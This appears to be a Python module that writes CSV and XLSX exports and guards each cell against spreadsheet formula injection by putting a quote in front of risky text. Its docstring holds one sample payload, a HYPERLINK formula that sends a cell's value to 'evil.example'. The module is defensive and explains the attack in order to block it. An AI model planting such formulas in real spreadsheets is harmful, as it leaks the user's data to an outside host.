"""Spreadsheet exports (CSV for programs, CSV for Dutch Excel, XLSX): every cell goes through
:func:`safe_cell`.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(also after a leading tab or carriage return, which some programs strip), so a supplier called
``=HYPERLINK("https://evil.example?"&A1, "Klik")`` would run in the buyer's spreadsheet. As
OWASP advises (CSV injection), such text is written with a single quote in front, which the
spreadsheet shows as text. Numbers the export itself writes (ints, floats, Decimals) are left as
they are, so a negative number stays a number; only text is neutralised. In an XLSX file text
cells are moreover typed as text, never as formulas.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

__all__ = ["FORMULA_TRIGGERS", "XLSX_MEDIA_TYPE", "Sheet", "csv_text", "excel_csv", "safe_cell",
           "xlsx"]

# What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows and never evaluates.

    Parameters
    ----------
    value
        Text (user-supplied or not), a number, a bool or None.

    Returns
    -------
    The number unchanged, None as ``""``, anything else as text, prefixed with ``'`` when it
    starts with one of :data:`FORMULA_TRIGGERS`.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """A CSV document whose every cell went through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


# Dutch Excel opens a CSV by double-click with the locale's list separator (";", since the
# comma is the decimal sign) and reads it as Windows-1252 unless a byte-order mark says UTF-8;
# "0.9021" would become text (or a date), "0,9021" is a number.
EXCEL_SEPARATOR = ";"
BYTE_ORDER_MARK = "\ufeff"
# How a date and time is written in the Dutch export (day first, as Dutch Excel reads it).
DUTCH_DATETIME = "%d-%m-%Y %H:%M"
XLSX_DATETIME = "dd-mm-yyyy hh:mm"
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_DECIMAL = "0.0000"


def _excel_csv_cell(value: Any) -> Any:
    if isinstance(value, datetime):
        return value.strftime(DUTCH_DATETIME)
    if isinstance(value, (float, Decimal)) and not isinstance(value, bool):
        return str(value).replace(".", ",")
    return safe_cell(value)


def excel_csv(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV that Dutch Excel opens as columns: ``;`` between cells, decimal commas, dates as
    dd-mm-jjjj uu:mm (give them in the reader's time zone), UTF-8 with a byte-order mark; every
    text cell through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=EXCEL_SEPARATOR, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([_excel_csv_cell(cell) for cell in row])
    return (BYTE_ORDER_MARK + out.getvalue()).encode("utf-8")


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its title (at most 31 characters), a header row and the rows."""

    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Any]]


def _xlsx_text(value: Any) -> Any:
    text = safe_cell(value)
    if not isinstance(text, str):
        return text
    # Control characters XML cannot hold would make openpyxl refuse the whole file; a carriage
    # return would be read back as a line feed (XML normalises line ends), so write that.
    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")


def xlsx(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook of ``sheets``: text cells through :func:`safe_cell` and typed as text
    (never a formula), numbers as numbers, datetimes (naive: give them in the reader's time
    zone) as dates; a bold, frozen header row with a filter."""
    book = Workbook()
    book.remove(book.worksheets[0])  # the empty sheet a new workbook starts with
    for sheet in sheets:
        worksheet = book.create_sheet(sheet.title[:31])
        worksheet.append([_xlsx_text(name) for name in sheet.header])
        for cell in worksheet[1]:
            cell.font = Font(bold=True)
        widths = [len(str(name)) for name in sheet.header]
        for row_number, row in enumerate(sheet.rows, start=2):
            for column, value in enumerate(row, start=1):
                cell = worksheet.cell(row=row_number, column=column)
                if isinstance(value, datetime):
                    cell.value = value.replace(tzinfo=None)
                    cell.number_format = XLSX_DATETIME
                elif isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
                    cell.value = value
                    if not isinstance(value, int):
                        cell.number_format = XLSX_DECIMAL
                else:
                    cell.value = _xlsx_text(value)
                    cell.data_type = "s"  # text, whatever it looks like
                if column <= len(widths):
                    widths[column - 1] = max(widths[column - 1], len(str(cell.value or "")))
        for column, width in enumerate(widths, start=1):
            worksheet.column_dimensions[worksheet.cell(row=1, column=column).column_letter] \
                .width = min(60, width + 2)
        worksheet.freeze_panes = "A2"
        if sheet.rows:
            worksheet.auto_filter.ref = worksheet.dimensions
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
